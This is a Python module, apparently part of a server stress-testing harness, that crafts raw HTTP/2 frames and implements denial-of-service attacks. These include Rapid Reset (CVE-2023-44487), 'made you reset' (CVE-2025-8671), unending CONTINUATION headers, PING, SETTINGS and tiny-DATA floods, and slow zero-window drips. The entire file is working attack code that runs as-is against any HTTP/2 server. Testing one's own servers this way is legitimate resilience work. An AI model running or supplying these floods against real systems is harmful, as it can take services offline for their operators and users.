"""Hostile clients of HTTP/2: streams, resets and windows."""

from __future__ import annotations

import asyncio
import functools
import struct
from collections.abc import Callable

import hpack
from attack import Attack
from http1_attacks import stay

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def h2_frame(kind: int, flags: int, stream: int, payload: bytes = b'') -> bytes:
    return struct.pack('!I', len(payload))[1:] + struct.pack('!BBI', kind, flags, stream) + payload


@functools.lru_cache
def block(path: str, method: str = 'GET') -> bytes:
    """Return a header block that needs no dynamic table."""
    fields = [(':method', method), (':scheme', 'http'), (':authority', 'test'), (':path', path)]
    return bytes(hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields]))


def request(stream: int, path: str = '/quick/x', flags: int = END_STREAM | END_HEADERS) -> bytes:
    return h2_frame(HEADERS, flags, stream, block(path))


def upload(stream: int) -> bytes:
    """Return the beginning of a request whose body is to follow."""
    return h2_frame(HEADERS, END_HEADERS, stream, block('/echo/x', 'POST'))


START = PREFACE + h2_frame(SETTINGS, 0, 0)


async def prefaces(attack: Attack) -> None:
    """Open HTTP/2 connections and ask for nothing."""
    await stay(attack, START, http2=True)


async def by_stream(attack: Attack, make: Callable[[int], bytes], begin: bytes = START) -> None:
    """Send what `make` gives for each stream number, 200 at a time."""

    async def one() -> None:
        async with attack.connection(http2=True) as (reader, writer):
            writer.write(begin)
            number = 1
            while attack.running and not reader.at_eof():
                writer.write(b''.join(make(stream) for stream in range(number, number + 400, 2)))
                number += 400
                await writer.drain()
                attack.discard(reader)
                await asyncio.sleep(0)

    await attack.many(one)


async def unread_streams(attack: Attack) -> None:
    """Ask for a megabyte on one stream of each connection, with wide windows, and read nothing."""
    wide = PREFACE + h2_frame(SETTINGS, 0, 0, struct.pack('!HI', 4, 2**31 - 1))
    wide += h2_frame(WINDOW_UPDATE, 0, 0, struct.pack('!I', 2**30))
    await attack.many(lambda: attack.hold(wide + request(1, '/large/1000000'), http2=True))


async def rapid_reset(attack: Attack) -> None:
    """Reset each request at once (CVE-2023-44487)."""
    reset = struct.pack('!I', 8)
    await by_stream(attack, lambda stream: request(stream) + h2_frame(RST_STREAM, 0, stream, reset))


async def made_you_reset(attack: Attack) -> None:
    """Make the server reset each request: a window update of nothing (CVE-2025-8671)."""
    nothing = struct.pack('!I', 0)
    await by_stream(attack, lambda stream: request(stream) + h2_frame(WINDOW_UPDATE, 0, stream, nothing))


async def continuation(attack: Attack) -> None:
    """Send a header block that does not end."""
    begin = START + request(1, flags=0)
    await attack.many(lambda: attack.flood(begin, h2_frame(CONTINUATION, 0, 1, b'\x00\x01a\x01b' * 20)))


async def pings(attack: Attack) -> None:
    await attack.many(lambda: attack.flood(START, h2_frame(PING, 0, 0, b'12345678') * 200, read=False))


async def settings(attack: Attack) -> None:
    await attack.many(lambda: attack.flood(START, h2_frame(SETTINGS, 0, 0) * 200, read=False))


async def tiny_frames(attack: Attack) -> None:
    """Upload in DATA frames of a byte, as fast as the windows allow."""
    await attack.many(lambda: attack.flood(START + upload(1), h2_frame(DATA, 0, 1, b'x') * 5000))


async def windows(attack: Attack) -> None:
    """Ask for a megabyte with a window of nothing, and open it by a byte at times."""
    begin = PREFACE + h2_frame(SETTINGS, 0, 0, struct.pack('!HI', 4, 0))
    begin += b''.join(request(stream, '/large/1000000') for stream in range(1, 201, 2))
    byte = struct.pack('!I', 1)

    async def one() -> None:
        async with attack.connection(http2=True) as (reader, writer):
            writer.write(begin)
            while attack.running and not reader.at_eof():
                writer.write(b''.join(h2_frame(WINDOW_UPDATE, 0, n, byte) for n in range(1, 201, 2)))
                await writer.drain()
                attack.discard(reader)
                await asyncio.sleep(0.2)

    await attack.many(one)


HTTP2_DRIPS = (unread_streams,)
HTTP2_FLOODS = (rapid_reset, made_you_reset, continuation, pings, settings, windows, tiny_frames)
